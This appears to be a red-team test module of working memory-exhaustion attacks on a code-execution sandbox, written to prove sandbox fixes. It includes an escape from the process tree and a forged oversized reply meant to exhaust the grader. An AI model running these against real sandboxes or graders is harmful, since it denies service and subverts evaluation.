"""Memory attacks against the sandbox (red-team, not collected by pytest).

Run one, from the repository root:
    .venv/bin/python tests/adversarial/memory/drive.py tests/adversarial/memory/attacks_activations.py bwrap memfd_write:1500 wait:4
The fixes are proven in tests/test_memory_limits.py.
Functions: memfd_write, memfd_mmap_close, memfd_touch_dontneed, sysv, msgq, devshm, sockets, pagetables,
pagetables_here, threads, daemon (process mode), fat_reply (grader memory), nested_tmpfs, uring, burst, big, probe.
"""
import os, time, mmap
import numpy as np

HOARD = []
CHUNK = 32 << 20  # 32 MB per write; files capped at 64 MB by RLIMIT_FSIZE
FILE = 64 << 20


def _status():
    with open("/proc/self/status") as f:
        return {l.split(":")[0]: l.split(":")[1].strip() for l in f if l.startswith(("RssAnon", "RssShmem", "VmPTE", "VmRSS"))}


def memfd_write(mb):
    """memfd_create + write(): the pages are in the memfd's page cache, never mapped."""
    buf = b"\x01" * CHUNK
    n = 0
    t = time.monotonic()
    while n < (mb << 20) and time.monotonic() - t < 4:
        fd = os.memfd_create("x")
        for _ in range(FILE // CHUNK):
            os.write(fd, buf)
        HOARD.append(fd)
        n += FILE
    return {"held_mb": n >> 20, "total_mb": len(HOARD) * 64, "fds": len(HOARD), "secs": round(time.monotonic() - t, 2), **_status()}


def memfd_mmap_close(mb):
    """memfd, write, mmap it (untouched), close the fd: no fd needed, only address space."""
    buf = b"\x01" * CHUNK
    n = 0
    while n < (mb << 20):
        fd = os.memfd_create("y")
        for _ in range(FILE // CHUNK):
            os.write(fd, buf)
        HOARD.append(mmap.mmap(fd, FILE, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ))
        os.close(fd)
        n += FILE
    return {"held_mb": n >> 20, "maps": len(HOARD), **_status()}


def memfd_touch_dontneed(mb):
    """Map a memfd, fill it through the mapping, then MADV_DONTNEED: RSS drops, the pages stay."""
    n = 0
    while n < (mb << 20):
        fd = os.memfd_create("z")
        os.ftruncate(fd, FILE)
        m = mmap.mmap(fd, FILE, flags=mmap.MAP_SHARED)
        a = np.frombuffer(m, dtype=np.uint8)
        a[:] = 1
        del a
        m.madvise(mmap.MADV_DONTNEED)
        HOARD.append((fd, m))
        n += FILE
    return {"held_mb": n >> 20, **_status()}


def wait(secs):
    time.sleep(secs)
    return {"held": len(HOARD), **_status()}


def sigmoid(x):
    return 1 / (1 + np.exp(-x))


def tanh(x):
    return np.tanh(x)


def relu(x):
    return np.maximum(x, 0)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
IPC_CREAT, IPC_PRIVATE = 0o1000, 0
SEG = 256 << 20


def sysv(mb):
    """shmget + shmat + fill + shmdt: the segment outlives the mapping (and the process, without IPC_RMID)."""
    t = time.monotonic()
    n = 0
    ids = []
    while n < (mb << 20) and time.monotonic() - t < 4:
        sid = _libc.shmget(IPC_PRIVATE, SEG, IPC_CREAT | 0o600)
        if sid < 0:
            return {"error": os.strerror(ctypes.get_errno()), "held_mb": n >> 20}
        addr = _libc.shmat(sid, None, 0)
        ctypes.memset(addr, 1, SEG)
        _libc.shmdt(ctypes.c_void_p(addr))
        ids.append(sid)
        n += SEG
    HOARD.extend(ids)
    return {"held_mb": n >> 20, "segments": len(ids), "secs": round(time.monotonic() - t, 2), **_status()}


def daemon(mb):
    """Double fork + setsid: leaves the worker's process group and, once its parent exits, the tree."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        if os.fork() == 0:
            os.setsid()
            os.close(r)
            hoard = np.ones(mb << 20, dtype=np.uint8)
            time.sleep(float(os.environ.get("RT_DAEMON_SECS", "20")))
            os._exit(0)
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(w)
    return {"forked": True}


def devshm(mb):
    n = 0
    buf = b"\x02" * (32 << 20)
    while n < (mb << 20):
        with open(f"/dev/shm/rt-{os.getpid()}-{n >> 20}", "wb") as f:
            f.write(buf); f.write(buf)
        n += 64 << 20
    return {"held_mb": n >> 20}


_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PROT_READ, MAP_PRIVATE, MAP_ANONYMOUS, MAP_FIXED_NOREPLACE = 1, 2, 0x20, 0x100000
TWO_MB = 2 << 20


def _pt_fill(count):
    """count 4 KB read-only anonymous mappings, 2 MB apart, each read once: each read maps the
    shared zero page (no RSS) but needs a page-table page of its own (4 KB of kernel memory)."""
    base = 0x100000000000 + (os.getpid() % 64) * (1 << 38)
    made = 0
    for i in range(count):
        addr = _libc.mmap(base + i * TWO_MB, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0)
        if addr in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.c_char.from_address(addr).value  # read: zero page, one PTE page
        made += 1
    return made


def pagetables(procs):
    """procs processes, each with 65,000 such mappings (about 256 MB of page tables each)."""
    pids = []
    for _ in range(procs):
        pid = os.fork()
        if pid == 0:
            _pt_fill(65000)
            time.sleep(float(os.environ.get("RT_PT_SECS", "25")))
            os._exit(0)
        pids.append(pid)
    HOARD.extend(pids)
    return {"children": len(pids)}


def pagetables_here(n):
    made = _pt_fill(n)
    return {"made": made, **_status()}


import socket


def sockets(pairs):
    """Unix socket pairs stuffed until EAGAIN: the queued data is kernel memory (skbs)."""
    t = time.monotonic()
    buf = b"\x03" * (1 << 16)
    queued = 0
    made = 0
    for _ in range(pairs):
        if time.monotonic() - t > 4:
            break
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        for s in (a, b):
            s.setblocking(False)
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
            except OSError:
                pass
            while True:
                try:
                    queued += s.send(buf)
                except BlockingIOError:
                    break
        HOARD.append((a, b))
        made += 1
    return {"pairs": made, "queued_mb": queued >> 20, "secs": round(time.monotonic() - t, 2), **_status()}


def burst(procs):
    """procs processes that each touch 900 MB at once, then sleep."""
    for _ in range(procs):
        if os.fork() == 0:
            a = np.ones(900 << 20, dtype=np.uint8)
            time.sleep(10)
            os._exit(0)
    time.sleep(4)
    return {"alive": True}


def big(mb):
    a = np.ones(mb << 20, dtype=np.uint8)
    return int(a[::4096].sum())


import json as _json, struct as _struct, sys as _sys


def _response_fd():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0][-1] == "1":
                return fd
        except (OSError, IndexError):
            pass


def fat_reply(junk_mb):
    """Forge the reply frame: a 512 MB array streamed from a 1 MB buffer, and a 16 MB header full
    of empty lists (each 3 bytes of JSON, 64 bytes as a Python object in the grader)."""
    request_id = _sys._getframe(1).f_locals["request"]["id"]
    n = (junk_mb << 20) // 3
    blob = 512 << 20
    head = ('{"id": %d, "status": "ok", "value": {"t": "ndarray", "dtype": "<f8", "shape": [%d], "blob": 0}, '
            '"blob_sizes": [%d], "junk": [%s[]]}' % (request_id, blob // 8, blob, "[]," * (n - 1)))
    head = head.encode()
    assert len(head) <= 16 << 20, len(head)
    fd = _response_fd()
    os.write(fd, _struct.pack(">I", len(head)))
    view = memoryview(head)
    while view:
        view = view[os.write(fd, view):]
    chunk = b"\0" * (1 << 20)
    for _ in range(blob >> 20):
        v = memoryview(chunk)
        while v:
            v = v[os.write(fd, v):]
    time.sleep(3)  # the real reply follows, for a skipped id
    return None


_libc.msgget.argtypes = [ctypes.c_int, ctypes.c_int]
_libc.msgsnd.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def msgq(queues):
    """SysV message queues filled to msgmnb (16 KB each): they outlive the process too."""
    IPC_NOWAIT = 0o4000
    msg = ctypes.create_string_buffer(8 + 8000)
    ctypes.c_long.from_buffer(msg).value = 1
    sent = 0
    for _ in range(queues):
        q = _libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
        if q < 0:
            break
        while _libc.msgsnd(q, msg, 8000, IPC_NOWAIT) == 0:
            sent += 8000
    return {"queued_kb": sent >> 10}


import threading


def threads(n):
    """Threads are tasks with host pids; the watchdog counts processes only."""
    threading.stack_size(65536)
    ev = threading.Event()
    made = 0
    t = time.monotonic()
    for _ in range(n):
        try:
            th = threading.Thread(target=ev.wait, daemon=True)
            th.start()
        except RuntimeError:
            break
        HOARD.append(th)
        made += 1
    return {"threads": made, "secs": round(time.monotonic() - t, 2), **_status()}


def nested_tmpfs(mb):
    """A user namespace of the child's own may mount a fresh, uncapped tmpfs in its own mount ns."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            uid, gid = os.getuid(), os.getgid()
            if _libc.unshare(0x10000000 | 0x00020000) != 0:
                raise OSError(ctypes.get_errno(), "unshare")
            try:
                open("/proc/self/setgroups", "w").write("deny")
                open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
                open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
            except OSError:
                pass
            if _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
                raise OSError(ctypes.get_errno(), "mount")
            buf = b"\x04" * (32 << 20)
            n = 0
            while n < (mb << 20):
                with open(f"/tmp/f{n >> 20}", "wb") as f:
                    f.write(buf); f.write(buf)
                n += 64 << 20
            os.write(w, f"ok {n >> 20} MB in a fresh tmpfs".encode())
        except Exception as e:
            os.write(w, repr(e).encode())
        os.close(w)
        time.sleep(20)
        os._exit(0)
    os.close(w)
    return os.read(r, 200).decode()


def probe():
    out = {}
    _libc.syscall.restype = ctypes.c_long
    r = _libc.syscall(248, b"user", b"rt", b"x" * 1000, 1000, ctypes.c_long(-4))  # add_key to session keyring
    out["add_key"] = (r, os.strerror(ctypes.get_errno()))
    params = ctypes.create_string_buffer(120)
    r = _libc.syscall(425, 8, params)  # io_uring_setup
    out["io_uring_setup"] = (r, os.strerror(ctypes.get_errno()) if r < 0 else "ok")
    r = _libc.unshare(0x10000000)
    out["unshare_user"] = (r, os.strerror(ctypes.get_errno()) if r else "ok")
    import resource
    out["nofile"] = resource.getrlimit(resource.RLIMIT_NOFILE)
    out["data"] = resource.getrlimit(resource.RLIMIT_DATA)
    out["as"] = resource.getrlimit(resource.RLIMIT_AS)
    out["msgqueue"] = resource.getrlimit(resource.RLIMIT_MSGQUEUE)
    out["memlock"] = resource.getrlimit(resource.RLIMIT_MEMLOCK)
    return out


def uring(rings):
    """io_uring instances at the largest sizes: their rings are kernel pages, never in RSS until mapped."""
    _libc.syscall.restype = ctypes.c_long
    made, t = 0, time.monotonic()
    err = ""
    for _ in range(rings):
        if time.monotonic() - t > 4:
            break
        params = ctypes.create_string_buffer(120)
        ctypes.c_uint32.from_buffer(params, 4).value = 65536  # cq_entries
        ctypes.c_uint32.from_buffer(params, 8).value = 1 << 3  # IORING_SETUP_CQSIZE
        fd = _libc.syscall(425, 32768, params)
        if fd < 0:
            err = os.strerror(ctypes.get_errno())
            break
        HOARD.append(fd)
        made += 1
    return {"rings": made, "err": err, "secs": round(time.monotonic() - t, 2), **_status()}
